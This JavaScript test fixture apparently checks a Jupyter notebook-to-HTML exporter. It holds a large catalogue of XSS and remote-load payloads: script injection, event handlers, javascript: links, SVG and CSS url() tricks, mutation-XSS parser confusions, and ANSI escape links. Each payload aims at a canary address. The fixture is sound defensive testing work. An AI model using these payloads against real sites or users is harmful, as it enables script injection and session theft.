// Notebooks of somebody who wants a script to run, or something to be fetched, where their export is looked at.

/** What no page may reach; the tests see every request. */
export const ELSEWHERE = 'http://127.0.0.1:9/hostile';

/** What scripts of these notebooks do: it is seen as a flag, as a dialog, as a request or as another address. */
export const SCRIPT = `window.top.hostile=1;alert(1);fetch('${ELSEWHERE}/script')`;

const URL = ELSEWHERE;
const JS = SCRIPT.replaceAll('"', '&quot;').replaceAll("'", '&#39;');
const RUN = `<script>${SCRIPT}</script>`;
const IMG = `<img src=x onerror="${JS}">`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"><script>${SCRIPT}</script><image href="${URL}/svg"/>`
  + `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${URL}/foreign"></iframe></body></foreignObject></svg>`;
const base64 = text => Buffer.from(text).toString('base64');
const DOT = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

const notebook = (cells, metadata = {}, more = {}) => ({ nbformat: 4, nbformat_minor: 5, metadata, cells, ...more });
const prose = (source, more = {}) => notebook([{ id: 'a', cell_type: 'markdown', metadata: {}, source, ...more }]);
const code = (source, outputs = [], more = {}) => ({ id: 'a', cell_type: 'code', metadata: {}, source, outputs, execution_count: 1, ...more });
const shown = (data, metadata = {}) => notebook([code('1', [{ output_type: 'display_data', data, metadata }])]);
const html = text => shown({ 'text/html': text });
const stream = text => notebook([code('1', [{ output_type: 'stream', name: 'stdout', text }])]);

/** By what they try. */
export const HOSTILE = {
  // Outputs, in every format.
  'png-breakout': shown({ 'image/png': `x">${RUN}` }),
  'png-onerror': shown({ 'image/png': `x" onerror="${SCRIPT.replaceAll('"', '')}` }),
  'jpeg-onerror': shown({ 'image/jpeg': `" onerror="${JS}` }),
  'png-then-markup': shown({ 'image/png': `${DOT}">${IMG}` }),
  'png-that-is-html': shown({ 'image/png': base64(`<html>${RUN}</html>`) }),
  'gif-breakout': shown({ 'image/gif': `R0lGOD">${RUN}` }),
  'webp-breakout': shown({ 'image/webp': `">${RUN}` }),
  'png-metadata': shown({ 'image/png': DOT }, { 'image/png': { width: `1" onload="${JS}`, height: `"><script>${SCRIPT}</script>` } }),
  'svg': shown({ 'image/svg+xml': SVG }),
  'svg-stylesheet': shown({ 'image/svg+xml': `<?xml-stylesheet href="${URL}/x.css"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${URL}/entity">]><svg xmlns="http://www.w3.org/2000/svg"><style>@import url(${URL}/import)</style><use href="${URL}/use#a"/><text>&x;</text></svg>` }),
  'html-script': html(RUN),
  'html-script-src': html(`<script src="${URL}/x.js"></script><script type=module>import '${URL}/m.js'</script>`),
  'html-handlers': html(`${IMG}<body onload="${JS}"><details open ontoggle="${JS}"><summary>x</summary></details><input autofocus onfocus="${JS}"><marquee onstart="${JS}">x</marquee><video onerror="${JS}"><source src=x onerror="${JS}"></video>`),
  'html-unquoted-handlers': html(`<img/src=x/onerror=${SCRIPT.replaceAll(/[()' ]/g, c => `&#${c.charCodeAt(0)};`)}><svg/onload=${JS}>`),
  'html-frames': html(`<iframe src="${URL}/frame"></iframe><iframe srcdoc="${RUN.replaceAll('"', '&quot;')}"></iframe><frameset><frame src="javascript:${JS}"></frameset>`),
  'html-objects': html(`<object data="${URL}/object"></object><embed src="${URL}/embed"><applet code="${URL}/applet"></applet><object data="data:text/html;base64,${base64(RUN)}"></object>`),
  'html-meta': html(`<meta http-equiv="refresh" content="0;url=${URL}/refresh"><meta http-equiv=refresh content="0;javascript:${JS}">`),
  'html-base': html(`<base href="${URL}/"><img src="relative.png"><a href="relative">x</a>`),
  'html-links': html(`<link rel=stylesheet href="${URL}/x.css"><link rel=preload as=image href="${URL}/preload"><link rel=dns-prefetch href="//hostile.invalid"><link rel=icon href="${URL}/icon">`),
  'html-forms': html(`<form action="${URL}/form" id=f><input name=a><button formaction="javascript:${JS}">x</button></form><button form=f>x</button>`),
  'html-pictures': html(`<img src="${URL}/img"><img srcset="${URL}/srcset 1x"><picture><source srcset="${URL}/source"><img src="${URL}/picture"></picture><input type=image src="${URL}/input"><video poster="${URL}/poster" src="${URL}/video"></video><audio src="${URL}/audio" autoplay></audio>`),
  'html-relative-pictures': html('<img src="//127.0.0.1:9/hostile/a"><img src="\\\\127.0.0.1:9\\hostile"><img src="beside.png"><img src="file:///etc/hostname"><img src="blob:x">'),
  'html-backgrounds': html(`<table background="${URL}/table"><tr><td background="${URL}/td">x</td></tr></table><body background="${URL}/body">`),
  'css-url': html(`<p style="background: url(${URL}/css)">x</p><p style="background-image:u\\72l(${URL}/escaped)">x</p><p style="list-style: disc url('${URL}/list')">x</p><p style="cursor: url(${URL}/cursor), auto">x</p><p style="background:image-set('${URL}/set' 1x)">x</p><p style="border-image: url(&quot;${URL}/border&quot;)">x</p>`),
  'css-element': html(`<style>@import "${URL}/import"; @font-face { font-family: h; src: url(${URL}/font) } body { font-family: h; background: url(${URL}/style) }</style><p>x</p>`),
  'css-expression': html(`<p style="width: expression(${JS})">x</p><p style="behavior: url(${URL}/htc)">x</p><p style="-moz-binding: url(${URL}/xbl)">x</p><p style="x:/**/url(${URL}/comment)">x</p>`),
  'css-overlay': html(`<a href="${URL}/overlay" style="position: fixed; inset: 0; z-index: 9">x</a><p style="content: url(${URL}/content)">x</p><p style="filter: url(${URL}/filter#a)">x</p><p style="mask: url(${URL}/mask)">x</p>`),
  'links': html(`<a href="javascript:${JS}">a</a><a href="java\tscript:${JS}">b</a><a href="&#1;javascript:${JS}">c</a><a href=" JaVaScRiPt&colon;${JS}">d</a><a href="data:text/html,${encodeURIComponent(RUN)}">e</a><a href="vbscript:x">f</a><a href="view-source:x">g</a><a href="#x" ping="${URL}/ping">h</a><area href="javascript:${JS}">`),
  'svg-in-html': html(`${SVG}<svg><a xlink:href="javascript:${JS}"><text y=20>x</text></a><animate onbegin="${JS}" attributeName=x dur=1s></svg><svg><use href="data:image/svg+xml;base64,${base64(SVG)}#x"></use></svg>`),
  'svg-as-picture': html(`<img src="data:image/svg+xml;base64,${base64(SVG)}"><img src="data:image/svg+xml,${encodeURIComponent(SVG)}"><img src="data:text/html,${encodeURIComponent(RUN)}">`),
  'mutation-noscript': html(`<noscript><p title="</noscript>${IMG.replaceAll('"', '&quot;')}"></noscript><noscript><style></noscript>${IMG}</style>`),
  'mutation-template': html(`<template><img src=x onerror="${JS}"></template><template shadowrootmode=open><img src=x onerror="${JS}"></template>`),
  'mutation-math': html(`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${JS}&gt;">`),
  'mutation-form': html(`<form><math><mtext></form><form><mglyph><style></math>${IMG}`),
  'mutation-svg': html(`<svg></p><style><a id="</style>${IMG}">`),
  'mutation-table': html(`<table><svg><desc><td></desc>${IMG}</td></svg></table><select><template><style><!--</style><a rel="--></style></template></select>${IMG}">`),
  'mutation-text': html(`<textarea><p title="</textarea>${IMG}"></textarea><title></title>${IMG}<xmp></xmp>${IMG}<plaintext>${IMG}`),
  'mutation-comment': html(`<!--><img src=x onerror="${JS}">--><!-- --!>${IMG}<![CDATA[><img src=x onerror="${JS}">]]><?x ${IMG}?>`),
  'template-breakout': html(`</div></main></body></html>${RUN}<!DOCTYPE html><html><head>${RUN}</head>`),
  'deep': html('<div>'.repeat(20_000) + RUN),
  'null-characters': html(`<scr\0ipt>${SCRIPT}</scr\0ipt><\0img src=x onerror="${JS}"><img src=x one\0rror="${JS}">`),
  'markdown-output': shown({ 'text/markdown': `${RUN}\n\n![x](${URL}/picture)\n\n[x](javascript:${SCRIPT})` }),
  'javascript-output': shown({ 'application/javascript': SCRIPT, 'text/plain': RUN }),
  'other-formats': shown({ 'text/latex': `$${RUN}$`, 'application/pdf': base64(RUN), [`text/x"><img src=x onerror=${JS}>`]: RUN }),
  'unknown-format': shown({ [`text/x"><img src=x onerror="${JS}">`]: RUN }),
  'widget': shown({ 'application/vnd.jupyter.widget-view+json': { model_id: RUN }, 'application/vnd.plotly.v1+json': { data: RUN }, 'application/json': { a: RUN } }),
  // Text that terminals read.
  'stream': stream(`${RUN}\x1b[31m${IMG}\x1b[0m</pre>${RUN}`),
  'ansi-link': stream(`\x1b]8;;javascript:${SCRIPT}\x1b\\link\x1b]8;;\x1b\\ \x1b]8;;"><img src=x onerror="${SCRIPT}">\x07x\x1b]8;;\x07`),
  'ansi-colours': stream(`\x1b[1"><img src=x onerror=alert(1)>m\x1b[38;5;1"onload=m ${IMG}\x9b31m\x1b[${RUN}m`),
  'error': notebook([code('1', [{ output_type: 'error', ename: RUN, evalue: IMG, traceback: [`\x1b[31m${RUN}`, `</pre>${IMG}`] }])]),
  'error-without-traceback': notebook([code('1', [{ output_type: 'error', ename: `</pre>${RUN}`, evalue: IMG, traceback: [] }])]),
  // Prose.
  'markdown-html': prose(`${RUN}\n\n${IMG}\n\n<details open ontoggle="${JS}">\n\nx\n\n</details>\n\n<iframe src="${URL}/frame">\n\nx <svg onload="${JS}"> y`),
  'markdown-pictures': prose(`![x](${URL}/a.png) ![x](<${URL}/b.png> "t\\" onerror=\\"x") ![x"onerror="alert(1)](x) ![${IMG}](y)\n\n![r][r]\n\n[r]: ${URL}/r.png`),
  'markdown-links': prose(`[a](javascript:${encodeURIComponent(SCRIPT)}) [b](JAVASCRIPT&colon;alert(1)) [c](java&#115;cript:alert(1)) [d](data:text/html;base64,${base64(RUN)}) <javascript:alert(1)> [e][e]\n\n[e]: javascript:alert(1)`),
  'markdown-breakout': prose(`</main></body>${RUN}\n\n<!--\n\n${RUN}\n\n<style>\n\n@import "${URL}/css";\n\n`),
  'markdown-headings': prose(`# ${RUN}\n\n## "><img src=x onerror="${JS}">\n\n## code\n\n## \`${RUN}\`\n\n### </nav>${RUN}\n\n<h1 id="code">x</h1>`),
  'markdown-code': prose('```"><script>alert(1)</script>\nx\n```\n\n``` js onload=alert(1)\nx\n```\n\n~~~<img src=x onerror=alert(1)>\nx'),
  'attachments': prose(`![x](attachment:a.png) ![x](attachment:b.svg) ![x](attachment:c"onerror=alert.png) ![x](attachment:d.html)`, {
    attachments: { 'a.png': { 'image/png': `x">${RUN}` }, 'b.svg': { 'image/svg+xml': SVG }, 'c"onerror=alert.png': { 'image/png': DOT }, 'd.html': { 'text/html': RUN } }
  }),
  'deep-prose': prose('>'.repeat(20_000) + RUN),
  // Everything around.
  'metadata': notebook([code(`${RUN}`, [], { id: `"><img src=x onerror="${JS}">`, execution_count: RUN, metadata: { tags: [RUN], name: IMG, collapsed: RUN } })], {
    title: `</title>${RUN}`, authors: [{ name: IMG }], kernelspec: { name: RUN, display_name: `"><img src=x onerror="${JS}">`, language: RUN }, language_info: { name: RUN, file_extension: IMG, pygments_lexer: RUN, codemirror_mode: RUN }
  }),
  'raw-cell': notebook([{ id: 'r', cell_type: 'raw', metadata: { format: 'text/html' }, source: RUN }, { id: 's', cell_type: RUN, metadata: {}, source: RUN }]),
  'source': notebook([code(`-- </code></pre></details>${RUN}\nSELECT '${IMG.replaceAll("'", "''")}'`), code(`String s = "</code></pre>${RUN.replaceAll('"', '')}";`), code(`%%${RUN}\n${IMG}`)]),
  'unicode': notebook([code(`// \u202e${RUN}\u2066`, [{ output_type: 'display_data', metadata: {}, data: { 'text/html': `\u202e${RUN}\uff1cscript\uff1ealert(1)\uff1c/script\uff1e\u2028<\u0130mg src=x onerror="${JS}"><\u017fcript>${SCRIPT}</\u017fcript>` } }])])
};

/** A page that does all this: what the tests watch for has to be seen in it. */
export const UNSAFE = `<!DOCTYPE html><title>unsafe</title>${RUN}<img src="${URL}/picture">`;
